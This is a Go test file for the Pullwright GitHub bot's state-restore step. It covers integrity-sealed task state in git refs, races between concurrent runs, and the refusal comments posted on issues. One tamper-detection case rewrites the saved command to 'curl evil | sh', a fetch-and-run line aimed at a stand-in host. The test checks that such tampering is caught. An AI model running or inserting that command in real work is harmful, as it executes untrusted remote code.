package action

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pullwright/pullwright"
	"github.com/pullwright/pullwright/repo"
	"github.com/pullwright/pullwright/task"
	"github.com/pullwright/pullwright/task/tasktest"
)

const cloneURL = "https://github.com/Codertocat/Hello-World.git"

// fakeRefs is a repository's refs, each at a commit holding one file. Its
// writes and removals are compare-and-swaps, as repo's are.
type fakeRefs struct {
	mu   sync.Mutex
	refs map[string]fakeCommit
	n    int
	// beforeWrite, when set, runs once as the next write starts: the moment
	// another run may act between this run's read and its write.
	beforeWrite func()
	// moved counts the writes and removals refused because the ref moved.
	moved int
}

type fakeCommit struct {
	id     string
	data   []byte
	msg    string
	author pullwright.Identity
}

func newFakeRefs(states map[string][]byte) *fakeRefs {
	r := &fakeRefs{refs: map[string]fakeCommit{}}
	for ref, data := range states {
		r.n++
		r.refs[ref] = fakeCommit{id: fmt.Sprintf("c%d", r.n), data: data}
	}
	return r
}

func (r *fakeRefs) checkURL(url string) error {
	if url != cloneURL {
		return fmt.Errorf("fake refs: unknown repository %s", url)
	}
	return nil
}

func (r *fakeRefs) ListRefs(_ context.Context, url, prefix string) (map[string]string, error) {
	if err := r.checkURL(url); err != nil {
		return nil, err
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	out := map[string]string{}
	for ref, c := range r.refs {
		if strings.HasPrefix(ref, prefix) {
			out[ref] = c.id
		}
	}
	return out, nil
}

func (r *fakeRefs) ReadRefFile(_ context.Context, url, ref, path string) ([]byte, string, error) {
	if err := r.checkURL(url); err != nil {
		return nil, "", err
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.refs[ref]
	if !ok || path != StateFile {
		return nil, "", fmt.Errorf("fake refs: no %s in %s", path, ref)
	}
	return c.data, c.id, nil
}

func (r *fakeRefs) WriteRefFile(_ context.Context, url, ref, path string, data []byte, author pullwright.Identity, msg string, _ time.Time, expect string) (string, error) {
	if err := r.checkURL(url); err != nil {
		return "", err
	}
	if hook := r.beforeWrite; hook != nil {
		r.beforeWrite = nil
		hook()
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if path != StateFile {
		return "", fmt.Errorf("fake refs: write %s: unexpected file %s", ref, path)
	}
	if expect != "" && r.refs[ref].id != expect {
		r.moved++
		return "", fmt.Errorf("write %s: %w", ref, repo.ErrRefMoved)
	}
	r.n++
	c := fakeCommit{id: fmt.Sprintf("c%d", r.n), data: data, msg: msg, author: author}
	r.refs[ref] = c
	return c.id, nil
}

func (r *fakeRefs) DeleteRef(_ context.Context, url, ref, expect string) error {
	if err := r.checkURL(url); err != nil {
		return err
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if expect != "" && r.refs[ref].id != expect {
		r.moved++
		return fmt.Errorf("delete %s: %w", ref, repo.ErrRefMoved)
	}
	delete(r.refs, ref)
	return nil
}

func (r *fakeRefs) names() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Sorted(maps.Keys(r.refs))
}

// fakeGitHub answers for the bot's identity and its check runs, and keeps
// the comments posted.
type fakeGitHub struct {
	login      string
	checkRuns  map[int64]pullwright.CheckRunState
	checkErr   error
	commentErr error
	comments   []fakeComment
}

type fakeComment struct {
	owner, repo string
	issue       int
	marker      string
	body        string
}

func (g *fakeGitHub) Identity(context.Context) (pullwright.Identity, error) {
	return pullwright.Identity{Login: g.login, Name: g.login, Email: "1+" + g.login + "@users.noreply.github.com"}, nil
}

func (g *fakeGitHub) GetCheckRun(_ context.Context, r pullwright.Repo, id int64) (pullwright.CheckRunState, error) {
	owner, name := r.Owner, r.Name
	if g.checkErr != nil {
		return pullwright.CheckRunState{}, g.checkErr
	}
	cr, ok := g.checkRuns[id]
	if !ok || owner != "Codertocat" || name != "Hello-World" {
		return pullwright.CheckRunState{}, fmt.Errorf("fake github: no check run %d on %s/%s", id, owner, name)
	}
	return cr, nil
}

func (g *fakeGitHub) UpsertComment(_ context.Context, r pullwright.Repo, issue int, marker string, _ int64, body string) (pullwright.Posted, error) {
	owner, name := r.Owner, r.Name
	if g.commentErr != nil {
		return pullwright.Posted{}, g.commentErr
	}
	g.comments = append(g.comments, fakeComment{owner: owner, repo: name, issue: issue, marker: marker, body: body})
	return pullwright.Posted{ID: int64(len(g.comments))}, nil
}

// fakeStore is the run's store: tasks by id.
type fakeStore struct {
	tasks    map[int64]*task.Task
	restored []int64
	next     int64
}

func newFakeStore() *fakeStore { return &fakeStore{tasks: map[int64]*task.Task{}} }

func (s *fakeStore) Record(_ context.Context, _ task.Delivery, t *task.Task) error {
	if t != nil {
		s.next++
		t.ID = s.next
		s.tasks[t.ID] = t.Clone()
	}
	return nil
}

func (s *fakeStore) Get(_ context.Context, id int64) (*task.Task, error) {
	t, ok := s.tasks[id]
	if !ok {
		return nil, fmt.Errorf("get task %d: %w", id, task.ErrNotFound)
	}
	return t.Clone(), nil
}

func (s *fakeStore) Restore(_ context.Context, t *task.Task) error {
	if _, ok := s.tasks[t.ID]; ok {
		return fmt.Errorf("restore task %d: %w", t.ID, task.ErrActive)
	}
	s.tasks[t.ID] = t.Clone()
	s.restored = append(s.restored, t.ID)
	return nil
}

func (s *fakeStore) StartIDsAt(_ context.Context, n int64) error {
	s.next = max(s.next, n)
	return nil
}

func (s *fakeStore) NextDue(context.Context) (time.Time, bool, error) { return time.Time{}, false, nil }

// asking is a task whose request's approval check run (7) still asks.
func asking() *task.Task {
	t := waiting()
	t.Repo.CloneURL = cloneURL
	tasktest.Job(t).Request.CheckRunID = 7
	return t
}

func askingCheckRun() pullwright.CheckRunState {
	return pullwright.CheckRunState{HeadSHA: "abc123", ExternalID: "42-1", Status: "completed", Conclusion: "action_required", App: "pullwright"}
}

func sealed(t *testing.T, tk *task.Task, k []byte) []byte {
	t.Helper()
	doc, err := Seal(k, tk, time.Unix(1700000000, 0))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

// newStep is a run of id runID on issue 1's comment, over refs.
func newStep(runID int64, refs *fakeRefs, gh *fakeGitHub, store *fakeStore) *Step {
	ev, _ := json.Marshal(map[string]any{
		"issue":      map[string]any{"number": 1},
		"repository": map[string]any{"full_name": "Codertocat/Hello-World", "clone_url": cloneURL},
	})
	return &Step{
		Env: Env{
			EventName: "issue_comment", Event: ev, Repository: "Codertocat/Hello-World",
			ServerURL: "https://github.com", RunID: runID, StateKey: key,
		},
		Store: store, GitHub: gh, Refs: refs, Command: "/agent",
		Log: slog.New(slog.NewTextHandler(io.Discard, nil)),
	}
}

func newFakeGitHub() *fakeGitHub {
	return &fakeGitHub{login: "pullwright[bot]", checkRuns: map[int64]pullwright.CheckRunState{7: askingCheckRun()}}
}

func (s *Step) event(t *testing.T) event {
	t.Helper()
	var ev event
	if err := json.Unmarshal(s.Env.Event, &ev); err != nil {
		t.Fatal(err)
	}
	return ev
}

// TestRestoreChecksTheSavedState runs restore on one saved state per case:
// only a genuine state whose request still asks is restored and claimed;
// one that fails a check is reported on its issue and removed.
func TestRestoreChecksTheSavedState(t *testing.T) {
	ref := StateRef(1, 42)
	// checkRun is askingCheckRun with f's change, in place of check run 7.
	checkRun := func(f func(cr *pullwright.CheckRunState)) func(*fakeGitHub) {
		return func(g *fakeGitHub) {
			cr := askingCheckRun()
			f(&cr)
			g.checkRuns[7] = cr
		}
	}
	done := asking()
	done.State = task.Done
	tests := []struct {
		name   string
		states map[string][]byte
		gh     func(*fakeGitHub)
		// want is the error restore must return (nil: none).
		want error
		// restored are the task ids put in the store.
		restored []int64
		// report is a phrase of the comment posted on #1 ("" for none).
		report string
		// refs are the refs left afterwards.
		refs []string
	}{
		{
			name: "genuine and asking", states: map[string][]byte{ref: sealed(t, asking(), key)},
			restored: []int64{42}, refs: []string{ref},
		},
		{
			name: "sealed with another key", states: map[string][]byte{ref: sealed(t, asking(), []byte("fedcba9876543210fedcba9876543210"))},
			want: ErrStateTampered, report: "failed its integrity check",
		},
		{
			name:   "command changed",
			states: map[string][]byte{ref: []byte(strings.Replace(string(sealed(t, asking(), key)), "go test ./...", "curl evil | sh", 1))},
			want:   ErrStateTampered, report: "failed its integrity check",
		},
		{
			name: "kept under another task's ref", states: map[string][]byte{StateRef(1, 43): sealed(t, asking(), key)},
			want: ErrStateTampered, report: "Task 43 cannot go on",
		},
		{
			name:   "newer format",
			states: map[string][]byte{ref: editState(t, sealed(t, asking(), key), func(st map[string]any) { st["version"] = 2 })},
			want:   ErrStateVersion, report: "a Pullwright version whose format this one does not read",
		},
		{
			name: "task ended", states: map[string][]byte{ref: sealed(t, done, key)},
			want: ErrStateReplayed, report: "not the task's latest state",
		},
		{
			name: "request answered since", states: map[string][]byte{ref: sealed(t, asking(), key)},
			gh:   checkRun(func(cr *pullwright.CheckRunState) { cr.Conclusion = "success" }),
			want: ErrStateReplayed, report: "not the task's latest state",
		},
		{
			name: "check run of another app", states: map[string][]byte{ref: sealed(t, asking(), key)},
			gh:   checkRun(func(cr *pullwright.CheckRunState) { cr.App = "someone-else" }),
			want: ErrStateTampered, report: "failed its integrity check",
		},
		{
			name: "check run on another commit", states: map[string][]byte{ref: sealed(t, asking(), key)},
			gh:   checkRun(func(cr *pullwright.CheckRunState) { cr.HeadSHA = "def456" }),
			want: ErrStateTampered, report: "failed its integrity check",
		},
		{
			// GitHub failing is no proof against the state: it is kept
			// for a later run, and nothing is reported.
			name: "check run unreadable", states: map[string][]byte{ref: sealed(t, asking(), key)},
			gh:   func(g *fakeGitHub) { g.checkErr = errors.New("502 Bad Gateway") },
			want: errAny, refs: []string{ref},
		},
		{
			// A refusal that cannot be reported keeps the state, so that
			// the next run reports it.
			name: "report fails", states: map[string][]byte{ref: sealed(t, asking(), []byte("fedcba9876543210fedcba9876543210"))},
			gh:   func(g *fakeGitHub) { g.commentErr = errors.New("403 Forbidden") },
			want: ErrStateTampered, refs: []string{ref},
		},
		{
			name: "other issues and junk are not read",
			states: map[string][]byte{
				StateRef(2, 50):               []byte("garbage"),
				StateRefPrefix + "junk":       []byte("garbage"),
				"refs/heads/pullwright/issue": []byte("garbage"),
			},
			refs: []string{"refs/heads/pullwright/issue", StateRefPrefix + "junk", StateRef(2, 50)},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			refs, gh, store := newFakeRefs(tt.states), newFakeGitHub(), newFakeStore()
			if tt.gh != nil {
				tt.gh(gh)
			}
			s := newStep(5, refs, gh, store)
			restored, err := s.restore(context.Background(), s.event(t))
			switch {
			case tt.want == nil && err != nil:
				t.Fatalf("restore: %v", err)
			case tt.want == errAny && err == nil, tt.want != nil && tt.want != errAny && !errors.Is(err, tt.want):
				t.Fatalf("restore = %v, want %v", err, tt.want)
			}
			if !slices.Equal(store.restored, tt.restored) {
				t.Errorf("restored %v, want %v", store.restored, tt.restored)
			}
			if want := slices.Sorted(slices.Values(tt.refs)); !slices.Equal(refs.names(), want) {
				t.Errorf("refs left %v, want %v", refs.names(), want)
			}
			switch {
			case tt.report == "" && len(gh.comments) > 0:
				t.Errorf("reported %q, want no comment", gh.comments[0].body)
			case tt.report != "":
				if len(gh.comments) != 1 || gh.comments[0].issue != 1 || !strings.Contains(gh.comments[0].body, tt.report) {
					t.Fatalf("comments %+v, want one on #1 saying %q", gh.comments, tt.report)
				}
			}
			for _, id := range tt.restored {
				saved := restored[id]
				c := refs.refs[saved.ref]
				if saved.claim == "" || c.id != saved.claim || c.msg != "Pullwright: run 5 works on task 42\n\nRun: https://github.com/Codertocat/Hello-World/actions/runs/5\n" {
					t.Errorf("task %d: claim %q, ref at %+v", id, saved.claim, c)
				}
				if c.author.Name != "pullwright[bot]" {
					t.Errorf("claim written by %+v", c.author)
				}
			}
		})
	}
}

// errAny stands for "some error" in a table.
var errAny = errors.New("any error")

// TestTwoRunsOneState has two runs act on one saved state at once (a
// button and a comment in different concurrency groups): each claim or
// save is a compare-and-swap, so only one run goes on.
func TestTwoRunsOneState(t *testing.T) {
	ref := StateRef(1, 42)
	tests := []struct {
		name string
		// race runs runs a (id 5) and b (id 6) on the shared refs and
		// returns a's error.
		race func(t *testing.T, refs *fakeRefs, a, b *Step) error
		// winner is the run whose claim the ref holds afterwards.
		winner int64
	}{
		{
			name: "b claims between a's read and a's claim",
			race: func(t *testing.T, refs *fakeRefs, a, b *Step) error {
				refs.beforeWrite = func() {
					if _, err := b.restore(context.Background(), b.event(t)); err != nil {
						t.Errorf("run b: %v", err)
					}
				}
				_, err := a.restore(context.Background(), a.event(t))
				return err
			},
			winner: 6,
		},
		{
			name: "b claims after a's claim, before a saves",
			race: func(t *testing.T, refs *fakeRefs, a, b *Step) error {
				saved, err := a.restore(context.Background(), a.event(t))
				if err != nil {
					t.Fatalf("run a: %v", err)
				}
				if _, err := b.restore(context.Background(), b.event(t)); err != nil {
					t.Fatalf("run b: %v", err)
				}
				_, err = a.settle(context.Background(), asking(), saved[42])
				return err
			},
			winner: 6,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			refs, gh := newFakeRefs(map[string][]byte{ref: sealed(t, asking(), key)}), newFakeGitHub()
			a, b := newStep(5, refs, gh, newFakeStore()), newStep(6, refs, gh, newFakeStore())
			err := tt.race(t, refs, a, b)
			if !errors.Is(err, repo.ErrRefMoved) {
				t.Fatalf("run a = %v, want its write refused with ErrRefMoved", err)
			}
			if refs.moved != 1 {
				t.Errorf("%d writes refused, want 1", refs.moved)
			}
			if want := fmt.Sprintf("Pullwright: run %d works on task 42", tt.winner); !strings.HasPrefix(refs.refs[ref].msg, want) {
				t.Errorf("ref holds %q, want the claim of run %d", refs.refs[ref].msg, tt.winner)
			}
			if len(gh.comments) != 0 {
				t.Errorf("a lost claim reported %+v", gh.comments)
			}
		})
	}
}

func TestClaimLostSaysAnotherRunWorks(t *testing.T) {
	ref := StateRef(1, 42)
	refs, gh := newFakeRefs(map[string][]byte{ref: sealed(t, asking(), key)}), newFakeGitHub()
	a, b := newStep(5, refs, gh, newFakeStore()), newStep(6, refs, gh, newFakeStore())
	refs.beforeWrite = func() { _, _ = b.restore(context.Background(), b.event(t)) }
	_, err := a.restore(context.Background(), a.event(t))
	if err == nil || !strings.Contains(err.Error(), "another run is working on task 42") {
		t.Fatalf("restore = %v, want it to name the other run's task", err)
	}
	if got := a.Store.(*fakeStore).restored; len(got) != 0 {
		t.Errorf("the losing run restored %v", got)
	}
}

// TestRefuseStateReport checks what the issue is told of each refusal.
func TestRefuseStateReport(t *testing.T) {
	tests := []struct {
		why    error
		reason string
	}{
		{fmt.Errorf("open state: %w", ErrStateTampered), "it failed its integrity check: it was changed after it was saved, or the `state-key` secret is not the one it was saved with"},
		{fmt.Errorf("open state: %w", ErrStateVersion), "it was saved by a Pullwright version whose format this one does not read"},
		{fmt.Errorf("request 42-1: %w", ErrStateReplayed), "it is not the task's latest state"},
	}
	for _, tt := range tests {
		t.Run(tt.why.Error(), func(t *testing.T) {
			gh := newFakeGitHub()
			s := newStep(5, newFakeRefs(nil), gh, newFakeStore())
			if err := s.refuseState(context.Background(), 3, 42, StateRef(3, 42), "c9", tt.why); err != nil {
				t.Fatal(err)
			}
			if len(gh.comments) != 1 {
				t.Fatalf("comments %+v, want one", gh.comments)
			}
			c := gh.comments[0]
			if c.owner != "Codertocat" || c.repo != "Hello-World" || c.issue != 3 || c.marker != "task-42-state-refused-5" {
				t.Errorf("comment posted at %+v", c)
			}
			for _, want := range []string{"Task 42 cannot go on", "`refs/pullwright/state/issue-3-task-42`, commit c9", tt.reason, "nothing was run", "`/agent fix <instructions>`"} {
				if !strings.Contains(c.body, want) {
					t.Errorf("report %q lacks %q", c.body, want)
				}
			}
		})
	}
	t.Run("comment fails", func(t *testing.T) {
		gh := newFakeGitHub()
		gh.commentErr = errors.New("403 Forbidden")
		s := newStep(5, newFakeRefs(nil), gh, newFakeStore())
		err := s.refuseState(context.Background(), 3, 42, StateRef(3, 42), "c9", ErrStateTampered)
		if !errors.Is(err, gh.commentErr) || !strings.Contains(err.Error(), "report the refused state on #3") {
			t.Fatalf("refuseState = %v", err)
		}
	})
}

// TestSettle checks what a run leaves in the repository for each way its
// task stopped.
func TestSettle(t *testing.T) {
	ref := StateRef(1, 42)
	ended := asking()
	ended.State = task.Done
	working := asking()
	working.State = task.Working
	tests := []struct {
		name    string
		task    *task.Task
		claimed bool
		wantRef string
		refs    []string
		wantErr bool
	}{
		{name: "new task waits", task: asking(), wantRef: ref, refs: []string{ref}},
		{name: "restored task waits again", task: asking(), claimed: true, wantRef: ref, refs: []string{ref}},
		{name: "restored task ended", task: ended, claimed: true, refs: nil},
		{name: "new task ended", task: ended, refs: nil},
		{name: "interrupted", task: working, claimed: true, refs: []string{ref}, wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			refs := newFakeRefs(nil)
			var saved savedState
			if tt.claimed {
				refs = newFakeRefs(map[string][]byte{ref: []byte("claimed")})
				saved = savedState{ref: ref, claim: "c1"}
			}
			s := newStep(5, refs, newFakeGitHub(), newFakeStore())
			got, err := s.settle(context.Background(), tt.task, saved)
			if (err != nil) != tt.wantErr || got != tt.wantRef {
				t.Fatalf("settle = %q, %v; want %q, error %v", got, err, tt.wantRef, tt.wantErr)
			}
			if !slices.Equal(refs.names(), tt.refs) {
				t.Errorf("refs left %v, want %v", refs.names(), tt.refs)
			}
			if tt.wantRef != "" {
				back, err := Open(key, "Codertocat/Hello-World", refs.refs[ref].data)
				if err != nil || back.ID != 42 || tasktest.Job(back).Request.ID != "42-1" {
					t.Errorf("saved state opens to %+v, %v", back, err)
				}
			}
		})
	}
}

// fakeEvents decides nothing: the run's event asks nothing of the bot.
type fakeEvents struct{}

func (fakeEvents) Decide(task.Delivery, []byte) (*task.Task, string, error) {
	return nil, "not_a_command", nil
}

// fakePool counts its drains and leaves every task as it is.
type fakePool struct{ drains int }

func (p *fakePool) Drain(context.Context, task.Due) error { p.drains++; return nil }

// TestRunSavesAWaitingTaskAgain runs a whole step whose event only wakes a
// restored task that still waits: its state is saved again over the claim.
func TestRunSavesAWaitingTaskAgain(t *testing.T) {
	ref := StateRef(1, 42)
	refs, gh, store, pool := newFakeRefs(map[string][]byte{ref: sealed(t, asking(), key)}), newFakeGitHub(), newFakeStore(), &fakePool{}
	s := newStep(5, refs, gh, store)
	s.Events, s.Pool = fakeEvents{}, pool
	res, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != "waiting" || res.StateRef != ref || res.TaskID != 42 || res.Why != "not_a_command" {
		t.Errorf("result %+v", res)
	}
	if pool.drains != 1 || store.next != 500 || !slices.Equal(store.restored, []int64{42}) {
		t.Errorf("drains %d, ids from %d, restored %v", pool.drains, store.next, store.restored)
	}
	if !strings.HasPrefix(refs.refs[ref].msg, "Pullwright: task 42 on #1 waits for an answer to request 42-1") {
		t.Errorf("ref holds %q, want the saved state", refs.refs[ref].msg)
	}
}
